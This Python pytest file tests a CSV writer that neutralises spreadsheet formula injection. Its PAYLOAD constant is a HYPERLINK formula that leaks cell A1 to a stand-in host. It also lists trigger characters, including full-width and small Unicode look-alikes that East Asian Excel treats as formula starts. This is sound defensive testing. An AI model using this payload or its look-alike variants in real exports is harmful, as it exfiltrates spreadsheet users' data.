"""The one CSV writer: every cell a spreadsheet could run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from services import spreadsheet

PAYLOAD = 'HYPERLINK("http://example.invalid/?leak="&A1,"click")'
# Every first character a spreadsheet may take as the start of a formula or a DDE call
# (OWASP, "CSV Injection"), with the full-width and small forms that Excel in an East Asian
# locale reads as the same, the minus sign, and each behind spaces.
DANGEROUS_STARTS = [
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "\t",
    "\r",
    "\n",
    "\uff1d",  # FULLWIDTH EQUALS SIGN
    "\uff0b",  # FULLWIDTH PLUS SIGN
    "\uff0d",  # FULLWIDTH HYPHEN-MINUS
    "\uff20",  # FULLWIDTH COMMERCIAL AT
    "\uff5c",  # FULLWIDTH VERTICAL LINE
    "\uff05",  # FULLWIDTH PERCENT SIGN
    "\ufe66",  # SMALL EQUALS SIGN
    "\ufe62",  # SMALL PLUS SIGN
    "\ufe63",  # SMALL HYPHEN-MINUS
    "\ufe6b",  # SMALL COMMERCIAL AT
    "\u2212",  # MINUS SIGN
    " =",
    "  +",
    "\u00a0@",
    "\u3000\uff1d",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", DANGEROUS_STARTS, ids=[repr(s) for s in DANGEROUS_STARTS])
def test_every_dangerous_start_is_written_as_text(start: str) -> None:
    cell = start + PAYLOAD
    assert spreadsheet.dangerous(cell)
    written = _cells(spreadsheet.write([["actor", cell]]))
    assert written == [["actor", "'" + cell]]


@pytest.mark.parametrize(
    "cell",
    ["alys", "CR-2026-0001", "login_failed", "2026-12-02T10:00:00Z", "a = b", "", "Siân"],
)
def test_ordinary_cells_are_left_as_they_are(cell: str) -> None:
    assert not spreadsheet.dangerous(cell)
    assert _cells(spreadsheet.write([[cell, "x"]])) == [[cell, "x"]]


@pytest.mark.parametrize("number", ["-12", "-12.5", "-1,200", "+44"])
def test_numbers_stay_numbers(number: str) -> None:
    # A plain negative number is data, not a formula; "+44" is not a plain number.
    expected = number if number != "+44" else "'+44"
    assert _cells(spreadsheet.write([[number]])) == [[expected]]
    assert _cells(spreadsheet.write([[-12, 3.5, None, True]])) == [["-12", "3.5", "", "true"]]


def test_rows_end_as_rfc_4180_says() -> None:
    assert spreadsheet.write([["a"], ["b"]]) == "a\r\nb\r\n"
